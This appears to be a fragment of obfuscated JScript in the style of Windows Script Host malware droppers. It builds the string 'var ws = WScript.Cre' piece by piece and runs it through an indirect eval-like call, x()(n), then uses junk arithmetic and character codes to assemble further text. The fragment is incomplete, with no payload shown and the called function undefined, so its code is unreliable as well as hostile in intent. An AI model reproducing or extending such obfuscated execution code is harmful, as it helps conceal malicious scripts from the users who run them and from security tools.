var n='';var u='';u='var ws = WScr';n+=u;u='ipt.Cre';n+=u;x()(n);
function b() { var q = ["eX"][(3880 - 3880)]; return q; }
var c = b() + ('a','b','c') + String.fromCharCode(65,66);
